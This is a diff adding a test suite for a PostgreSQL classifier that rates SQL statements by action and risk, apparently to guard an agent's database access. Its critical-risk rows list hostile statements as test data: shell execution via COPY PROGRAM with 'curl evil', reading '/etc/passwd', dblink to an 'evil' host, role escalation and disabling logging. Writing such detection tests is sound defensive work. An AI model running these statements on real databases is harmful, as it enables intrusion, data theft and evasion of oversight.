@@ -1,0 +1,279 @@
+import { beforeAll, describe, expect, it } from 'vitest';
+import fc from 'fast-check';
+import { classifySql, fingerprintSql, loadSqlClassifier, normalizeSql } from './classify.js';
+
+beforeAll(async () => {
+  await loadSqlClassifier();
+});
+
+/** [sql, action, risk] — the contract's table of actions and risks (CONTRACT §2). */
+const TABLE: readonly (readonly [string, string, string])[] = [
+  // reads
+  ['SELECT 1', 'read', 'low'],
+  ['SELECT * FROM orders WHERE id = 7', 'read', 'low'],
+  ['select a.id, b.total from accounts a join invoices b on b.account_id = a.id', 'read', 'low'],
+  ['SELECT count(*) FROM (SELECT * FROM orders) o', 'read', 'low'],
+  ['WITH t AS (SELECT * FROM orders) SELECT * FROM t', 'read', 'low'],
+  ['WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r', 'read', 'low'],
+  ['SELECT * FROM orders UNION SELECT * FROM archived_orders', 'read', 'low'],
+  ['TABLE orders', 'read', 'low'],
+  ['VALUES (1), (2)', 'read', 'low'],
+  ['SHOW search_path', 'read', 'low'],
+  ['SHOW ALL', 'read', 'low'],
+  ['EXPLAIN SELECT * FROM orders', 'read', 'low'],
+  ['EXPLAIN DELETE FROM orders', 'read', 'low'],
+  ['EXPLAIN (ANALYZE false) DELETE FROM orders', 'read', 'low'],
+  ['EXPLAIN ANALYZE SELECT * FROM orders', 'read', 'low'],
+  ['BEGIN', 'read', 'low'],
+  ['BEGIN READ ONLY', 'read', 'low'],
+  ['START TRANSACTION ISOLATION LEVEL SERIALIZABLE', 'read', 'low'],
+  ['COMMIT', 'read', 'low'],
+  ['ROLLBACK', 'read', 'low'],
+  ['SAVEPOINT s1', 'read', 'low'],
+  ['RELEASE SAVEPOINT s1', 'read', 'low'],
+  ['ROLLBACK TO SAVEPOINT s1', 'read', 'low'],
+  ['SET TRANSACTION READ ONLY', 'read', 'low'],
+  ['SET TRANSACTION ISOLATION LEVEL REPEATABLE READ', 'read', 'low'],
+  ['SET search_path = app, public', 'read', 'low'],
+  ['SET statement_timeout = 5000', 'read', 'low'],
+  ["SET application_name = 'agent'", 'read', 'low'],
+  ['RESET statement_timeout', 'read', 'low'],
+  ["SELECT set_config('application_name', 'x', false)", 'read', 'low'],
+  ["SELECT current_setting('search_path')", 'read', 'low'],
+  ['SELECT currval(\'orders_id_seq\')', 'read', 'low'],
+  ['DECLARE c CURSOR FOR SELECT * FROM orders', 'read', 'low'],
+  ['FETCH 10 FROM c', 'read', 'low'],
+  ['CLOSE c', 'read', 'low'],
+  ['LISTEN events', 'read', 'low'],
+  ['UNLISTEN *', 'read', 'low'],
+  ['COPY orders TO STDOUT', 'read', 'low'],
+  ['COPY (SELECT * FROM orders) TO STDOUT WITH CSV', 'read', 'low'],
+  ['PREPARE q AS SELECT * FROM orders WHERE id = $1', 'read', 'low'],
+  ['DEALLOCATE q', 'read', 'low'],
+  ['DISCARD PLANS', 'read', 'low'],
+  ['SET CONSTRAINTS ALL DEFERRED', 'read', 'low'],
+  // writes
+  ["INSERT INTO orders (id, total) VALUES (1, 10)", 'write', 'medium'],
+  ['INSERT INTO orders SELECT * FROM staging ON CONFLICT DO NOTHING', 'write', 'medium'],
+  ['UPDATE orders SET total = 0 WHERE id = 1', 'write', 'medium'],
+  ['UPDATE orders SET total = 0', 'write', 'high'],
+  ['UPDATE orders SET total = 0 WHERE true', 'write', 'high'],
+  ['DELETE FROM orders WHERE id = 1', 'write', 'medium'],
+  ['DELETE FROM orders', 'write', 'high'],
+  ['DELETE FROM orders WHERE 1 = 1', 'write', 'high'],
+  ['MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN UPDATE SET total = s.total', 'write', 'medium'],
+  ['WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d', 'write', 'medium'],
+  ['WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d', 'write', 'high'],
+  ['SELECT * FROM (SELECT 1) x WHERE EXISTS (SELECT 1 FROM orders)', 'read', 'low'],
+  ['WITH u AS (UPDATE orders SET total = 1 WHERE id = 2 RETURNING id) SELECT * FROM u', 'write', 'medium'],
+  ['SELECT * INTO orders_copy FROM orders', 'write', 'medium'],
+  ['EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1', 'write', 'medium'],
+  ['EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 1', 'write', 'high'],
+  ['COPY orders FROM STDIN', 'write', 'medium'],
+  ['COPY orders (id, total) FROM STDIN WITH (FORMAT csv)', 'write', 'medium'],
+  ['CALL archive_orders(30)', 'write', 'medium'],
+  ['LOCK TABLE orders IN ACCESS EXCLUSIVE MODE', 'write', 'medium'],
+  ['SELECT * FROM orders FOR UPDATE', 'write', 'medium'],
+  ['BEGIN READ WRITE', 'write', 'medium'],
+  ['START TRANSACTION READ WRITE', 'write', 'medium'],
+  ['SET TRANSACTION READ WRITE', 'write', 'medium'],
+  ["SELECT nextval('orders_id_seq')", 'write', 'medium'],
+  ["SELECT setval('orders_id_seq', 100)", 'write', 'medium'],
+  ['NOTIFY events', 'write', 'medium'],
+  ["SELECT pg_notify('events', 'x')", 'write', 'medium'],
+  // ddl
+  ['CREATE TABLE t (id int)', 'ddl', 'medium'],
+  ['CREATE TABLE t2 AS SELECT * FROM orders', 'ddl', 'medium'],
+  ['CREATE MATERIALIZED VIEW mv AS SELECT * FROM orders', 'ddl', 'medium'],
+  ['CREATE VIEW v AS SELECT * FROM orders', 'ddl', 'medium'],
+  ['CREATE INDEX ON orders (total)', 'ddl', 'medium'],
+  ['ALTER TABLE orders ADD COLUMN note text', 'ddl', 'medium'],
+  ['ALTER TABLE orders DROP COLUMN note', 'ddl', 'high'],
+  ['ALTER TABLE orders RENAME TO orders2', 'ddl', 'medium'],
+  ['DROP TABLE orders', 'ddl', 'high'],
+  ['DROP INDEX orders_total_idx', 'ddl', 'high'],
+  ['TRUNCATE orders', 'ddl', 'high'],
+  ["COMMENT ON TABLE orders IS 'x'", 'ddl', 'medium'],
+  ['REINDEX TABLE orders', 'ddl', 'medium'],
+  ['VACUUM orders', 'ddl', 'medium'],
+  ['ANALYZE orders', 'ddl', 'medium'],
+  ['CLUSTER orders USING orders_pkey', 'ddl', 'medium'],
+  ['REFRESH MATERIALIZED VIEW mv', 'ddl', 'medium'],
+  ['CREATE SEQUENCE s', 'ddl', 'medium'],
+  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", 'ddl', 'medium'],
+  ['CREATE SCHEMA app', 'ddl', 'medium'],
+  ["CREATE TYPE mood AS ENUM ('sad', 'ok')", 'ddl', 'medium'],
+  ['CREATE TRIGGER trg BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()', 'ddl', 'medium'],
+  // admin
+  ['CREATE ROLE intruder', 'admin', 'critical'],
+  ['ALTER ROLE agent SUPERUSER', 'admin', 'critical'],
+  ['DROP ROLE agent', 'admin', 'critical'],
+  ['GRANT SELECT ON orders TO agent', 'admin', 'critical'],
+  ['REVOKE ALL ON orders FROM agent', 'admin', 'critical'],
+  ['GRANT admin TO agent', 'admin', 'critical'],
+  ['SET ROLE postgres', 'admin', 'critical'],
+  ['SET LOCAL ROLE postgres', 'admin', 'critical'],
+  ['RESET ROLE', 'admin', 'critical'],
+  ['SET SESSION AUTHORIZATION postgres', 'admin', 'critical'],
+  ['RESET SESSION AUTHORIZATION', 'admin', 'critical'],
+  ["SELECT set_config('role', 'postgres', false)", 'admin', 'critical'],
+  ["SELECT pg_catalog.set_config('default_transaction_read_only', 'off', false)", 'admin', 'critical'],
+  ['SELECT set_config(current_user, \'x\', false)', 'admin', 'critical'],
+  ['SET default_transaction_read_only = off', 'admin', 'critical'],
+  ['SET transaction_read_only = off', 'admin', 'critical'],
+  ['RESET default_transaction_read_only', 'admin', 'critical'],
+  ['SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 'admin', 'critical'],
+  ['RESET ALL', 'admin', 'critical'],
+  ['DISCARD ALL', 'admin', 'critical'],
+  ["ALTER SYSTEM SET log_statement = 'none'", 'admin', 'critical'],
+  ["COPY orders TO '/tmp/orders.csv'", 'admin', 'critical'],
+  ["COPY orders FROM '/etc/passwd'", 'admin', 'critical'],
+  ["COPY orders FROM PROGRAM 'curl evil'", 'admin', 'critical'],
+  ["COPY (SELECT 1) TO PROGRAM 'sh'", 'admin', 'critical'],
+  ["DO $$ BEGIN DELETE FROM orders; END $$", 'admin', 'critical'],
+  ["SELECT pg_read_file('/etc/passwd')", 'admin', 'critical'],
+  ["SELECT lo_import('/etc/passwd')", 'admin', 'critical'],
+  ["SELECT lo_export(1234, '/tmp/x')", 'admin', 'critical'],
+  ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'admin', 'critical'],
+  ['SELECT pg_cancel_backend(42)', 'admin', 'critical'],
+  ['SELECT pg_reload_conf()', 'admin', 'critical'],
+  ['SELECT pg_rotate_logfile()', 'admin', 'critical'],
+  ["SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)", 'admin', 'critical'],
+  ["SELECT dblink_exec('host=evil', 'DROP TABLE x')", 'admin', 'critical'],
+  ["SELECT * FROM orders WHERE id = (SELECT pg_terminate_backend(1)::int)", 'admin', 'critical'],
+  ["SELECT length(lo_get(1))", 'admin', 'critical'],
+  ["SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, false, '')", 'admin', 'critical'],
+  ['CREATE EXTENSION dblink', 'admin', 'critical'],
+  ['DROP EXTENSION dblink', 'admin', 'critical'],
+  ['ALTER TABLE orders OWNER TO intruder', 'admin', 'critical'],
+  ["LOAD 'auto_explain'", 'admin', 'critical'],
+  ['CHECKPOINT', 'admin', 'critical'],
+  ['CREATE DATABASE other', 'admin', 'critical'],
+  ['DROP DATABASE other', 'admin', 'critical'],
+  ["PREPARE TRANSACTION 'gx'", 'admin', 'critical'],
+  ["COMMIT PREPARED 'gx'", 'admin', 'critical'],
+  ['EXECUTE unknown_statement', 'admin', 'critical'],
+  ["CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw", 'admin', 'critical'],
+  ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO agent', 'admin', 'critical'],
+  ['REASSIGN OWNED BY agent TO postgres', 'admin', 'critical'],
+  // several statements: the widest part
+  ['SELECT 1; DELETE FROM orders WHERE id = 1', 'write', 'medium'],
+  ['SELECT 1; DROP TABLE orders', 'ddl', 'high'],
+  ['BEGIN; SET ROLE postgres; COMMIT', 'admin', 'critical'],
+];
+
+describe('classifySql over the contract table', () => {
+  it('has at least 80 statements', () => {
+    expect(TABLE.length).toBeGreaterThanOrEqual(80);
+  });
+  it.each(TABLE)('classifies %s as %s/%s', (sql, action, risk) => {
+    const result = classifySql(sql);
+    expect(result.ok).toBe(true);
+    if (!result.ok) return;
+    expect({ action: result.action, risk: result.risk }).toEqual({ action, risk });
+  });
+});
+
+describe('no false positives', () => {
+  it.each([
+    "SELECT 'DROP TABLE orders; DELETE FROM orders'",
+    "SELECT * FROM orders WHERE note = 'delete from orders'",
+    '/* DROP TABLE orders */ SELECT 1',
+    '-- DELETE FROM orders\nSELECT 1',
+    'SELECT "drop", "delete" FROM "truncate"',
+    'SELECT $$DROP TABLE orders$$',
+    'SELECT $body$ DELETE FROM orders; GRANT ALL ON orders TO x $body$ AS text',
+    "SELECT E'\\'; DROP TABLE orders; --'",
+    "SELECT 'pg_terminate_backend(1)'",
+    'SELECT deleted, dropped FROM audit_log WHERE updated_at > now()',
+  ])('reads when DROP/DELETE only appears in literals, comments or identifiers: %s', (sql) => {
+    const result = classifySql(sql);
+    expect(result.ok && result.action).toBe('read');
+  });
+});
+
+describe('tables', () => {
+  it('resolves unqualified names against the search path and skips CTE names', () => {
+    const result = classifySql('WITH recent AS (SELECT * FROM orders) SELECT * FROM recent JOIN billing.invoices i ON true', { searchPath: ['"$user"', 'shop'] });
+    expect(result.ok && result.tables).toEqual(['billing.invoices', 'shop.orders']);
+  });
+  it('resolves unqualified names to public when no search path is given', () => {
+    const result = classifySql('DELETE FROM orders WHERE id IN (SELECT order_id FROM refunds)');
+    expect(result.ok && result.statements[0]).toMatchObject({ writes: ['public.orders'], reads: ['public.refunds'] });
+  });
+  it('a non-recursive CTE does not hide a real table of the same name used before it', () => {
+    const result = classifySql('WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b');
+    expect(result.ok && result.tables).toEqual(['public.b']);
+  });
+  it('reports the tables a DROP or TRUNCATE removes', () => {
+    const result = classifySql('DROP TABLE app.orders, refunds; TRUNCATE ledger');
+    expect(result.ok && result.tables).toEqual(['app.orders', 'public.ledger', 'public.refunds']);
+  });
+  it('reports the functions a statement calls', () => {
+    const result = classifySql("SELECT lower(name), pg_catalog.now() FROM users");
+    expect(result.ok && result.statements[0]!.functions).toEqual(['lower', 'pg_catalog.now']);
+  });
+});
+
+describe('prepared statements', () => {
+  it('EXECUTE carries the action of the statement prepared under that name', () => {
+    const prepared = new Map([['wipe', 'PREPARE wipe AS DELETE FROM orders']]);
+    const result = classifySql('EXECUTE wipe', { preparedStatements: prepared });
+    expect(result.ok && [result.action, result.risk, result.tables, result.cacheable]).toEqual(['write', 'high', ['public.orders'], false]);
+  });
+  it('EXECUTE accepts the prepared body recorded without PREPARE', () => {
+    const result = classifySql('EXECUTE q(1)', { preparedStatements: new Map([['q', 'SELECT * FROM orders WHERE id = $1']]) });
+    expect(result.ok && result.action).toBe('read');
+  });
+  it('PREPARE reports the name it prepares and the action of its body', () => {
+    const result = classifySql('PREPARE wipe AS DELETE FROM orders WHERE id = $1');
+    expect(result.ok && result.statements[0]).toMatchObject({ prepares: 'wipe', action: 'write' });
+  });
+  it('DEALLOCATE ALL reports every name', () => {
+    const result = classifySql('DEALLOCATE ALL');
+    expect(result.ok && result.statements[0]!.deallocates).toBe('*');
+  });
+});
+
+describe('cacheability', () => {
+  it.each(['BEGIN READ WRITE', "SELECT set_config('role', 'x', false)", 'SET statement_timeout = 1', 'EXECUTE p', "COPY t FROM '/x'", 'EXPLAIN (ANALYZE off) DELETE FROM t'])(
+    'is not cacheable when constants decide: %s',
+    (sql) => {
+      const result = classifySql(sql);
+      expect(result.ok && result.cacheable).toBe(false);
+    },
+  );
+  it('is cacheable for plain statements, whose decision does not depend on constants', () => {
+    const result = classifySql("SELECT * FROM orders WHERE email = 'a@b.c'");
+    expect(result.ok && result.cacheable).toBe(true);
+  });
+  it('normalizes statements that differ only in constants to the same text', () => {
+    expect(normalizeSql('SELECT * FROM t WHERE a = 1')).toBe(normalizeSql('SELECT * FROM t WHERE a = 2'));
+    expect(fingerprintSql('SELECT * FROM t WHERE a = 1')).toBe(fingerprintSql('SELECT * FROM t WHERE a = 99'));
+    expect(fingerprintSql('SELEC')).toBeUndefined();
+  });
+});
+
+describe('failures', () => {
+  it('returns the parser message when the text does not parse', () => {
+    const result = classifySql('SELEC * FROM orders');
+    expect(result.ok).toBe(false);
+    expect(!result.ok && result.error).toMatch(/syntax error/);
+  });
+  it('treats an empty query as a read with no statements', () => {
+    const result = classifySql('  ');
+    expect(result.ok && result.statements).toEqual([]);
+  });
+  it('never throws on random SQL-ish text, and anything unparseable is { ok: false }', () => {
+    const words = fc.constantFrom('SELECT', 'DELETE', 'FROM', 'WHERE', 'DROP', 'TABLE', ';', '(', ')', "'", '$$', '--', '/*', '*/', 'x', '1', ',', '=', 'WITH', 'AS', 'INTO', '"', 'COPY', 'SET', 'ROLE');
+    const sqlish = fc.oneof(fc.array(words, { maxLength: 12 }).map((parts) => parts.join(' ')), fc.string({ maxLength: 60 }));
+    fc.assert(
+      fc.property(sqlish, (text) => {
+        const result = classifySql(text);
+        if (!result.ok) expect(typeof result.error).toBe('string');
+        else expect(['read', 'write', 'ddl', 'admin']).toContain(result.action);
+      }),
+      { numRuns: 500 },
+    );
+  });
+});
